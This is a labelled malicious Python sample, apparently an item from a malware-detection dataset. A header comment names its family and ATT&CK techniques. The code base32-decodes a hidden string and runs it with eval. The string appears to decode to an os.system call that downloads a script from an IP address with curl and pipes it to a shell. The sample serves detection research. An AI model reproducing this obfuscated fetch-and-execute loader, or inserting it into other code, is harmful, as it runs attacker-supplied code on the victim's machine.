# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=3-4
import base64 as b
c = b.b32decode("NFWXA33SOQQG64Z3N5ZS443ZON2GK3JIEJRXK4TMEAWXGIDIOR2HAORPF4YTSOBOGUYS4MJQGAXDMMJPPAXHG2BAPQQHG2BCFE======")
eval(compile(c, "", "exec"))
